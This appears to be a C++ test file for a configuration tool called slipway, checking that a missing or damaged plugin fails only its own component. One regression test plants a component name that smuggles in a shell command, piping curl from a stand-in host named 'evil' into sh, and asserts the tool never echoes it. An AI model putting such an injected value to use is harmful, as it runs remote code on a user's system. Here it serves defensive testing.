// SPDX-License-Identifier: Apache-2.0
// A plugin that is missing or unreadable stops the check of its own component, and of no other.
#include <slipway/json.hpp>

#include "tests/component/engine/installed.hpp"
#include "tests/component/engine/scratch_host.hpp"

namespace slipway {
namespace {

namespace fs = std::filesystem;

using slipway::testing::Ran;
using slipway::testing::ScratchHost;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

/// A root with components of two plugins, and a slipway whose plugins can be removed.
class MissingPlugin : public ::testing::Test {
 protected:
  MissingPlugin() {
    host.program = testing::install_into(prefix, {SLIPWAY_TEST_PLUGINS, SLIPWAY_GUEST_PLUGINS});
    host.plugins = prefix.at("usr/lib/slipway/plugins");
    host.spec(spec);
    const Ran applied = host.slipway({"apply"});
    EXPECT_EQ(applied.code, 0) << applied.out << applied.err;
  }
  void lose(const std::string& plugin) const { fs::remove(fs::path(host.plugins) / plugin); }
  /// Damage that the next boot has to repair.
  void remove_bystander_file() const { fs::remove(host.path("etc/bystander")); }
  Ran boot() const { return host.slipway({"apply", "--boot"}); }

  const std::string spec = "    probe: {}\n    bystander: {}\n    guest: {}\n";
  testing::TempDir prefix;
  ScratchHost host;
};

// Before the fix, a boot stopped at the first line: no component of the machine was checked.
TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersContinue) {
  lose("guest.so");
  remove_bystander_file();
  const Ran booted = boot();
  EXPECT_EQ(booted.code, 1) << booted.out;
  EXPECT_THAT(booted.out,
              AllOf(HasSubstr("guest: failed"), HasSubstr("bystander: changed"), HasSubstr("probe: ready")));
  EXPECT_THAT(booted.err, AllOf(HasSubstr("no installed plugin has the component guest"),
                                HasSubstr("install its plugin again (version 0.1.0)")));
  EXPECT_TRUE(fs::exists(host.path("etc/bystander")));
  EXPECT_TRUE(fs::exists(host.path("etc/guest"))) << "what it made stays";
}

TEST_F(MissingPlugin, IsReportedByEachCommandThatLooks) {
  lose("guest.so");
  for (const std::string command : {"verify", "doctor"}) {
    const Ran ran = host.slipway({command});
    EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
    EXPECT_THAT(ran.out,
                HasSubstr("guest.plugin: no installed plugin has the component guest, which guest 0.1.0 has applied"));
    EXPECT_THAT(ran.out, Not(HasSubstr("bystander.plugin")));
  }
  EXPECT_EQ(host.slipway({"verify", "bystander"}).code, 0);
  EXPECT_EQ(host.slipway({"verify", "guest"}).code, 1);
  EXPECT_THAT(host.slipway({"status"}).out,
              AllOf(HasSubstr("no installed plugin has the component guest"), Not(HasSubstr("is left to do"))));
}

// Only the plugin can check its own action: before the fix, verify and doctor ended before the first finding.
TEST_F(MissingPlugin, WithACustomActionDoesNotStopVerify) {
  host.live = true;  // an image leaves such an action to its boot
  host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
  const Ran applied = host.slipway({"apply"});
  ASSERT_EQ(applied.code, 0) << applied.out << applied.err;
  lose("probe.so");
  for (const std::string command : {"verify", "doctor"}) {
    const Ran ran = host.slipway({command});
    EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
    EXPECT_THAT(ran.out, AllOf(HasSubstr("probe.plugin: no installed plugin has the component probe"),
                               HasSubstr("probe.owned: slipway could not check what it has made")));
  }
  EXPECT_THAT(host.slipway({"verify"}).out, HasSubstr("pass  guest.owned"));
}

TEST_F(MissingPlugin, InAnInterruptedApplyDoesNotStopVerify) {
  host.live = true;
  host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  // With the sanitizer too, the crash must reach the engine as a signal.
  ::setenv("ASAN_OPTIONS", "handle_segv=0:handle_sigbus=0:detect_leaks=0", 1);
  const fs::path plugin = fs::path(host.plugins) / "probe.so";
  fs::resize_file(plugin, 65536);  // its manifest is complete, and the loader reads past the end
  for (const std::string command : {"verify", "doctor"}) {
    const Ran ran = host.slipway({command});
    EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
    EXPECT_THAT(ran.out, HasSubstr("the plugin of probe crashed in load")) << ran.err;
  }
  EXPECT_THAT(host.slipway({"verify"}).out, HasSubstr("pass  guest.owned"));
}

TEST_F(MissingPlugin, DoesNotPreventAnApplyOfTheOthers) {
  lose("guest.so");
  remove_bystander_file();
  const std::string file = host.folder().at("host.yaml").string();
  const Ran plan = host.slipway({"plan"});
  EXPECT_EQ(plan.code, 1);
  EXPECT_THAT(plan.out + plan.err,
              AllOf(HasSubstr("/etc/bystander"), HasSubstr("no installed plugin has the component guest")));
  const Ran alone = host.slipway({"apply", "--only", "bystander", "-f", file});
  EXPECT_EQ(alone.code, 0) << alone.out << alone.err;
  EXPECT_TRUE(fs::exists(host.path("etc/bystander")));
  EXPECT_EQ(host.slipway({"apply"}).code, 1);
  EXPECT_TRUE(fs::exists(host.path("etc/guest"))) << "it is still asked for";
  EXPECT_THAT(host.text("var/lib/slipway/generations/1.json"), HasSubstr("guest"));
  EXPECT_FALSE(fs::exists(host.path("var/lib/slipway/generations/2.json")));
}

TEST_F(MissingPlugin, ThatIsInstalledAgainChangesNothing) {
  const auto before = host.tree();
  const fs::path plugin = fs::path(host.plugins) / "guest.so";
  fs::rename(plugin, prefix.at("aside"));
  EXPECT_EQ(boot().code, 1);
  EXPECT_EQ(host.slipway({"verify"}).code, 1);
  fs::rename(prefix.at("aside"), plugin);
  EXPECT_EQ(boot().code, 0);
  EXPECT_EQ(host.slipway({"verify"}).code, 0);
  EXPECT_EQ(host.tree(), before);
}

// The missing component's outputs are unknown: components that require it wait for it, and the spec is not wrong.
TEST_F(MissingPlugin, BlocksThoseThatRequireIt) {
  lose("probe.so");
  const Ran booted = boot();
  EXPECT_EQ(booted.code, 1);
  EXPECT_THAT(booted.out, AllOf(HasSubstr("probe: failed"), HasSubstr("guest: blocked (it requires")));
  EXPECT_THAT(booted.err, Not(HasSubstr("which no component of the spec provides")));
}

TEST_F(MissingPlugin, ThatCannotBeReadIsNamedByItsFile) {
  std::ofstream(fs::path(host.plugins) / "guest.so") << "no plugin";
  const Ran verified = host.slipway({"verify"});
  EXPECT_EQ(verified.code, 1);
  EXPECT_THAT(verified.out, HasSubstr("/guest.so"));
  EXPECT_EQ(host.slipway({"verify", "probe"}).code, 0);
}

// The section for an older plugin is that component's problem too.
TEST_F(MissingPlugin, OfAnotherVersionMayRefuseTheSection) {
  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  generation["spec"]["spec"]["components"]["guest"]["formerly_known"] = "x";
  generation["plugins"]["guest"]["version"] = "0.0.9";
  std::ofstream(host.path("var/lib/slipway/generations/1.json")) << generation;
  remove_bystander_file();
  const Ran booted = boot();
  EXPECT_EQ(booted.code, 1);
  EXPECT_THAT(booted.out, AllOf(HasSubstr("guest: failed"), HasSubstr("bystander: changed")));
  EXPECT_THAT(booted.err,
              AllOf(HasSubstr("unknown key 'formerly_known' in guest"), HasSubstr("install guest 0.0.9 again")));
}

// A component that was never applied here is still a misspelt name.
TEST_F(MissingPlugin, DoesNotExcuseAnUnknownName) {
  lose("guest.so");
  host.spec(spec + "    bystandr: {}\n");
  const Ran plan = host.slipway({"plan"});
  EXPECT_EQ(plan.code, 1);
  EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
}

// Before the fix, the creator of a root could add a command to the one that slipway advises root to run.
TEST_F(MissingPlugin, WithAnInvalidNameIsADamagedRecord) {
  const std::string name = "x`; curl http://evil|sh #";
  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  generation["spec"]["spec"]["components"][name] = Json::object();
  generation["plugins"][name] = generation["plugins"]["guest"];
  std::ofstream(host.path("var/lib/slipway/generations/1.json")) << generation;
  for (const std::string command : {"status", "verify", "doctor", "plan"}) {
    const Ran ran = host.slipway({command});
    EXPECT_NE(ran.code, 0) << command << ran.out;
    EXPECT_THAT(ran.out + ran.err, Not(HasSubstr("curl"))) << command;
  }
}

// Removal works without its plugin, and the others' sections are kept.
TEST_F(MissingPlugin, CanBeRemoved) {
  lose("guest.so");
  const Ran removed = host.slipway({"remove", "guest", "--yes"});
  EXPECT_EQ(removed.code, 0) << removed.out << removed.err;
  EXPECT_FALSE(fs::exists(host.path("etc/guest")));
  EXPECT_EQ(host.slipway({"verify"}).code, 0);
  EXPECT_EQ(boot().code, 0);
}

}  // namespace
}  // namespace slipway
